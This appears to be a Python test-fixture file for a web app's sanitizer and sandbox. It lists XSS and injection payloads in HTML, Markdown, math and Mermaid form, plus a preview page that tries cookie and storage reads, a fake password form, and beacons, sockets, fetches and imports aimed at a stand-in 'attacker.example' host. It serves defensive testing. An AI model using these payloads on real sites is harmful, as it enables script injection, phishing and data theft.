"""Texts that try to run, fetch, pose or lead astray, for every place where somebody's words are shown to somebody else.

`SCRIPT` marks the window when it runs: `window.harmed` must stay undefined. Foreign addresses are seen by the watch.
"""

SCRIPT = "window.harmed=(window.harmed||0)+1;alert(1)"
FAR = "https://attacker.example"

MARKUP = [
    f"<script>{SCRIPT}</script>",
    f"<img src=x onerror='{SCRIPT}'>",
    f"<img src='{FAR}/p.png'>",
    f"<svg/onload='{SCRIPT}'>",
    f"<svg><animate onbegin='{SCRIPT}' attributeName=x dur=1s>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror='{SCRIPT}'></style></mglyph></table></mtext></math>",
    f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>',
    f"<iframe src='{FAR}/'></iframe>",
    f"<object data='{FAR}/o'></object><embed src='{FAR}/e'>",
    f"<link rel=stylesheet href='{FAR}/s.css'><style>@import '{FAR}/i.css'; body {{ background: url({FAR}/b.png) }}</style>",
    f"<base href='{FAR}/'>",
    f"<meta http-equiv=refresh content='0;url={FAR}/m'>",
    f"<form action='{FAR}/f'><input name=password autofocus onfocus='{SCRIPT}'><button>Sign in again</button></form>",
    f"<video autoplay src='{FAR}/v' onerror='{SCRIPT}'></video><audio src='{FAR}/a'></audio>",
    f"<details open ontoggle='{SCRIPT}'>x</details>",
    f"<a href='javascript:{SCRIPT}'>click</a>",
    f"<div style='position:fixed;inset:0;background:url({FAR}/d.png)'>covered</div>",
    f"\"'><script>{SCRIPT}</script>",
    f"</textarea></title><script>{SCRIPT}</script>",
]

MARKDOWN = [
    f"![a picture]({FAR}/secret?q=words)",
    f"![by reference][far]\n\n[far]: {FAR}/reference.png",
    f"[go](javascript:{SCRIPT})",
    f"[go](\x01javascript:{SCRIPT})",
    f"[go](JaVaScRiPt&colon;{SCRIPT})",
    f"[go](data:text/html,<script>{SCRIPT}</script>)",
    f"[go](vbscript:{SCRIPT})",
    f"<javascript:{SCRIPT}>",
    f"[x]: javascript:{SCRIPT}\n\n[click][x]",
    f'![x](x "\' onerror={SCRIPT}")',
    f'[x](https://example.org "\' onmouseover={SCRIPT}")',
    f"```html\n<script>{SCRIPT}</script>\n```",
    f'```"><script>{SCRIPT}</script>\ncode\n```',
    f"`<img src=x onerror={SCRIPT}>`",
    f"| a |\n| --- |\n| <img src=x onerror={SCRIPT}> |",
    f"$$\\href{{javascript:{SCRIPT}}}{{x}}$$",
    f"$\\htmlData{{x=<img src=x onerror={SCRIPT}>}}{{y}}$ and $\\includegraphics{{{FAR}/tex.png}}$",
    f'```mermaid\ngraph TD\n A["<img src=x onerror=\'{SCRIPT}\'>"] --> B\n click A href "javascript:{SCRIPT}"\n```',
    f"```mermaid\n%%{{init: {{'themeCSS': '@import url({FAR}/m.css)'}}}}%%\ngraph TD\n A --> B\n```",
    f"<!-- --><img src=x onerror={SCRIPT}><!-- -->",
    "<div class='composer' id='content'>posing as the page</div>",
]

ALL = [*MARKUP, *MARKDOWN]

# What a page in the canvas may try: the network in every way it knows, its parent, the window's address, windows and storage.
PREVIEW = f"""<!doctype html><title>preview</title><p id="here">the page is shown</p>
<img src="{FAR}/i.png"><link rel="stylesheet" href="{FAR}/s.css"><iframe src="{FAR}/f"></iframe>
<img src="/icons/icon-192.png"><script src="/assets/none.js"></script>
<form id="form" action="{FAR}/form" target="_top"><input name="q"></form>
<script>
const found = {{}};
const attempt = (name, act) => {{
  try {{ const made = act(); found[name] = made === null || made === undefined ? 'nothing' : 'got through'; }}
  catch (error) {{ found[name] = 'refused'; }}
}};
attempt('parent', () => parent.document.body);
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('top', () => {{ top.location = '{FAR}/top'; return null; }});
attempt('window', () => open('{FAR}/window'));
attempt('dialog', () => alert('out') || confirm('out') || null);
attempt('form', () => document.getElementById('form').submit() ?? null);
// Says true whatever becomes of it; the watch over all requests knows better.
attempt('beacon', () => {{ navigator.sendBeacon('{FAR}/beacon', 'x'); return null; }});
attempt('socket', () => {{ new WebSocket('wss://attacker.example/ws'); return null; }});
attempt('own socket', () => {{ new EventSource('/web/models/events'); return null; }});
attempt('worker', () => {{ new Worker('/sw.js'); }});
const later = (name, promise) => promise.then(() => 'got through', () => 'refused').then((how) => (found[name] = how));
Promise.all([
  later('fetch', fetch('{FAR}/fetch', {{mode: 'no-cors'}})),
  later('own fetch', fetch('/web/session', {{credentials: 'include'}})),
  later('import', import('{FAR}/module.js')),
]).then(() => (document.getElementById('here').dataset.found = JSON.stringify(found)));
</script>"""
